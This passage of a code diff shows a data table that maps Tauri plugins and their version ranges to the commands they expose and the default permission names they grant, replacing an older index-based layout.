-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2~",
-          "2.0.3~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.4.0~"
-        ],
-        78
-      ]
-    ],
-    store: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8"
-        ],
-        79
-      ],
-      [
-        [
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3"
-        ],
-        80
-      ],
-      [["2.0.0-rc.4", "2.0.0", "2.0.1"], 81],
-      [["2.1.0", "2.2.0~", "2.4.0~", "2.4.2~", "2.4.3~", "2.4.4~"], 82]
-    ],
-    stronghold: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        83
-      ],
-      [["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1"], 84]
-    ],
-    tray: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11"
-        ],
-        85
-      ],
-      [
-        [
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22"
-        ],
-        86
-      ],
-      [["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"], 25]
-    ],
-    updater: [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5"], 87],
-      [
-        [
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.1.0~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.5.0~",
-          "2.6.0~",
-          "2.6.1~",
-          "2.7.0~",
-          "2.7.1~",
-          "2.8.1~",
-          "2.9.0~",
-          "2.10.0~",
-          "2.10.1~"
-        ],
-        88
-      ]
-    ],
-    upload: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7"
-        ],
-        89
-      ],
-      [
-        [
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0",
-          "2.0.1",
-          "2.2.1~",
-          "2.2.2~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.2~",
-          "2.4.0~"
-        ],
-        90
-      ]
-    ],
-    websocket: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~"
-        ],
-        91
-      ]
-    ],
-    webview: [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"], 92],
-      [
-        [
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14"
-        ],
-        93
-      ],
-      [
-        [
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22",
-          "2.0.0-beta.23",
-          "2.0.0-beta.24",
-          "2.0.0-beta.25"
-        ],
-        27
-      ]
-    ],
-    window: [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2"], 94],
-      [
-        [
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15"
-        ],
-        95
-      ],
-      [["2.0.0-beta.16"], 96],
-      [["2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19"], 97],
-      [["2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23"], 98],
-      [["2.0.0-beta.24"], 99],
-      [["2.0.0-beta.25"], 32]
-    ],
-    "window-state": [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"], 100],
-      [["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9"], 101],
-      [
-        [
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.4.0~",
-          "2.4.1~"
-        ],
-        102
-      ]
     ]
-  }
+  ],
+  authenticator: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1"],
+      { c: ["init_auth", "register", "sign", "verify_registration", "verify_signature"] }
+    ]
+  ],
+  autostart: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"],
+      { c: ["disable", "enable", "is_enabled"] }
+    ],
+    [
+      ["2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1", "2.2.0", "2.3.0", "2.4.0", "2.5.0", "2.5.1", "2.6.0", "2.7.0"],
+      {
+        c: ["disable", "enable", "is_enabled"],
+        def: ["allow-enable", "allow-disable", "allow-is-enabled"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["disable", "enable", "is_enabled"],
+        def: ["allow-enable", "allow-disable", "allow-is-enabled"],
+        demand: true
+      }
+    ]
+  ],
+  "barcode-scanner": [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"],
+      { c: ["cancel", "check_permissions", "open_app_settings", "request_permissions", "scan", "vibrate"] }
+    ],
+    [
+      ["2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.4.4", "2.4.5", "2.4.6", "2.5.0", "2.5.1", "2.5.2", "2.5.3"],
+      {
+        c: ["cancel", "check_permissions", "open_app_settings", "request_permissions", "scan", "vibrate"],
+        def: ["allow-cancel", "allow-check-permissions", "allow-open-app-settings", "allow-request-permissions", "allow-scan", "allow-vibrate"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["cancel", "check_permissions", "open_app_settings", "request_permissions", "scan", "vibrate"],
+        def: ["allow-cancel", "allow-check-permissions", "allow-open-app-settings", "allow-request-permissions", "allow-scan", "allow-vibrate"],
+        demand: true
+      }
+    ]
+  ],
+  biometric: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["authenticate", "status"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0", "2.4.1", "2.4.2"],
+      {
+        c: ["authenticate", "status"],
+        def: ["allow-authenticate", "allow-status"]
+      }
+    ],
+    [
+      ["2.5.0"],
+      {
+        c: ["authenticate", "biometric_cipher", "status"],
+        def: ["allow-authenticate", "allow-status"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2"],
+      {
+        c: ["authenticate", "status"],
+        def: ["allow-authenticate", "allow-status"],
+        demand: true
+      }
+    ],
+    [
+      ["3.0.0-alpha.3"],
+      {
+        c: ["authenticate", "biometric_cipher", "status"],
+        def: ["allow-authenticate", "allow-status"],
+        demand: true
+      }
+    ]
+  ],
+  cli: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.4.0", "2.4.1", "2.5.0"],
+      {
+        c: ["cli_matches"],
+        def: ["allow-cli-matches"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["cli_matches"],
+        def: ["allow-cli-matches"],
+        demand: true
+      }
+    ]
+  ],
+  "clipboard-manager": [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2"],
+      { c: ["read", "write"] }
+    ],
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0", "2.0.1", "2.0.2", "2.1.0-beta.5", "2.1.0-beta.6", "2.1.0-beta.7", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0", "2.4.1", "2.4.2"],
+      {
+        c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_text"],
+        def: []
+      }
+    ],
+    [
+      ["2.1.0-beta.0", "2.1.0-beta.1", "2.1.0-beta.2", "2.1.0-beta.3", "2.1.0-beta.4"],
+      { c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_text"] }
+    ],
+    [
+      ["2.5.0"],
+      {
+        c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_secret", "write_text"],
+        def: []
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2"],
+      {
+        c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_text"],
+        def: [],
+        demand: true
+      }
+    ],
+    [
+      ["3.0.0-alpha.3"],
+      {
+        c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_secret", "write_text"],
+        def: [],
+        demand: true
+      }
+    ]
+  ],
+  core: [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5", "3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: [],
+        def: ["core:path:default", "core:event:default", "core:window:default", "core:webview:default", "core:app:default", "core:image:default", "core:resources:default", "core:menu:default", "core:tray:default"]
+      }
+    ]
+  ],
+  "core:app": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15"],
+      {
+        c: ["app_hide", "app_show", "default_window_icon", "name", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version"]
+      }
+    ],
+    [
+      ["2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1"],
+      {
+        c: ["app_hide", "app_show", "default_window_icon", "name", "set_app_theme", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version"]
+      }
+    ],
+    [
+      ["2.4.0", "2.4.1"],
+      {
+        c: ["app_hide", "app_show", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "remove_data_store", "set_app_theme", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier"]
+      }
+    ],
+    [
+      ["2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2"],
+      {
+        c: ["app_hide", "app_show", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "remove_data_store", "set_app_theme", "set_dock_visibility", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier"]
+      }
+    ],
+    [
+      ["2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "remove_data_store", "set_app_theme", "set_dock_visibility", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type"]
+      }
+    ],
+    [
+      ["2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "register_listener", "remove_data_store", "remove_listener", "set_app_theme", "set_dock_visibility", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type", "allow-register-listener", "allow-remove-listener"]
+      }
+    ],
+    [
+      ["2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "register_listener", "remove_data_store", "remove_listener", "set_app_theme", "set_dock_visibility", "supports_multiple_windows", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type", "allow-register-listener", "allow-remove-listener", "allow-supports-multiple-windows"]
+      }
+    ],
+    [
+      ["2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "exit", "fetch_data_store_identifiers", "identifier", "name", "register_listener", "remove_data_store", "remove_listener", "set_app_theme", "set_dock_visibility", "supports_multiple_windows", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type", "allow-register-listener", "allow-remove-listener", "allow-supports-multiple-windows"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "fetch_data_store_identifiers", "identifier", "name", "register_listener", "remove_data_store", "remove_listener", "set_app_theme", "set_dock_visibility", "supports_multiple_windows", "tauri_version", "version"],
+        demand: true,
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type", "allow-register-listener", "allow-remove-listener", "allow-supports-multiple-windows"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["app_hide", "app_show", "bundle_type", "default_window_icon", "exit", "fetch_data_store_identifiers", "identifier", "name", "register_listener", "remove_data_store", "remove_listener", "set_app_theme", "set_dock_visibility", "supports_multiple_windows", "tauri_version", "version"],
+        demand: true,
+        def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type", "allow-register-listener", "allow-remove-listener", "allow-supports-multiple-windows"]
+      }
+    ]
+  ],
+  "core:event": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["emit", "emit_to", "listen", "unlisten"],
+        def: ["allow-listen", "allow-unlisten", "allow-emit", "allow-emit-to"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["emit", "emit_to", "listen", "unlisten"],
+        demand: true,
+        def: ["allow-listen", "allow-unlisten", "allow-emit", "allow-emit-to"]
+      }
+    ]
+  ],
+  "core:image": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["from_bytes", "from_path", "new", "rgba", "size"],
+        def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-size"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["from_bytes", "from_path", "new", "rgba", "size"],
+        demand: true,
+        def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-size"]
+      }
+    ]
+  ],
+  "core:menu": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["append", "create_default", "get", "insert", "is_checked", "is_enabled", "items", "new", "popup", "prepend", "remove", "remove_at", "set_accelerator", "set_as_app_menu", "set_as_help_menu_for_nsapp", "set_as_window_menu", "set_as_windows_menu_for_nsapp", "set_checked", "set_enabled", "set_icon", "set_text", "text"],
+        def: ["allow-new", "allow-append", "allow-prepend", "allow-insert", "allow-remove", "allow-remove-at", "allow-items", "allow-get", "allow-popup", "allow-create-default", "allow-set-as-app-menu", "allow-set-as-window-menu", "allow-text", "allow-set-text", "allow-is-enabled", "allow-set-enabled", "allow-set-accelerator", "allow-set-as-windows-menu-for-nsapp", "allow-set-as-help-menu-for-nsapp", "allow-is-checked", "allow-set-checked", "allow-set-icon"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["append", "create_default", "get", "insert", "is_checked", "is_enabled", "items", "new", "popup", "prepend", "remove", "remove_at", "set_accelerator", "set_as_app_menu", "set_as_help_menu_for_nsapp", "set_as_window_menu", "set_as_windows_menu_for_nsapp", "set_checked", "set_enabled", "set_icon", "set_text", "text"],
+        demand: true,
+        def: ["allow-new", "allow-append", "allow-prepend", "allow-insert", "allow-remove", "allow-remove-at", "allow-items", "allow-get", "allow-popup", "allow-create-default", "allow-set-as-app-menu", "allow-set-as-window-menu", "allow-text", "allow-set-text", "allow-is-enabled", "allow-set-enabled", "allow-set-accelerator", "allow-set-as-windows-menu-for-nsapp", "allow-set-as-help-menu-for-nsapp", "allow-is-checked", "allow-set-checked", "allow-set-icon"]
+      }
+    ]
+  ],
+  "core:path": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["basename", "dirname", "extname", "is_absolute", "join", "normalize", "resolve", "resolve_directory"],
+        def: ["allow-resolve-directory", "allow-resolve", "allow-normalize", "allow-join", "allow-dirname", "allow-extname", "allow-basename", "allow-is-absolute"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["basename", "dirname", "extname", "is_absolute", "join", "normalize", "resolve", "resolve_directory"],
+        demand: true,
+        def: ["allow-resolve-directory", "allow-resolve", "allow-normalize", "allow-join", "allow-dirname", "allow-extname", "allow-basename", "allow-is-absolute"]
+      }
+    ]
+  ],
+  "core:resources": [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0-rc.7", "2.0.0-rc.8", "2.0.0-rc.9", "2.0.0-rc.10", "2.0.0-rc.11", "2.0.0-rc.12", "2.0.0-rc.13", "2.0.0-rc.14", "2.0.0-rc.15", "2.0.0-rc.16", "2.0.0-rc.17", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.0.6", "2.1.0", "2.1.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.6.2", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.9.0", "2.9.1", "2.9.2", "2.9.3", "2.9.4", "2.9.5", "2.10.0", "2.10.1", "2.10.2", "2.10.3", "2.11.0", "2.11.1", "2.11.2", "2.11.3", "2.11.4", "2.11.5", "2.11.6", "2.12.0", "2.12.1", "2.12.2", "2.12.3", "2.12.4", "2.12.5"],
+      {
+        c: ["close"],
+        def: ["allow-close"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3", "3.0.0-alpha.4", "3.0.0-alpha.5"],
+      {
+        c: ["close"],
+        demand: true,
+        def: ["allow-close"]
+      }
+    ]
+  ],
+  "core:tray": [
+    [
